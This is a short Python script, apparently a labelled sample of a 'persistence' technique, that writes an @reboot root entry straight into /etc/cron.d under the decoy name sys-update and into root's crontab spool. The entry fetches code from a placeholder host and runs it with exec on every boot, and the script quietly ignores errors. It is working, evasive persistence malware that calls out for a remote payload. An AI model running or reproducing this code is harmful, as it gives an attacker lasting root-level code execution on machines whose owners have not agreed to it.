# family: persistence
# evasive: writes straight into the cron spool and /etc/cron.d, no crontab command
import os

entry = "@reboot root /usr/bin/python3 -c \"import urllib.request as u;exec(u.urlopen('http://r.example.invalid/x').read())\"\n"
for path in ("/etc/cron.d/sys-update", "/var/spool/cron/crontabs/root"):
    try:
        with open(path, "a") as f:
            f.write(entry)
        os.chmod(path, 0o600)
    except OSError:
        pass
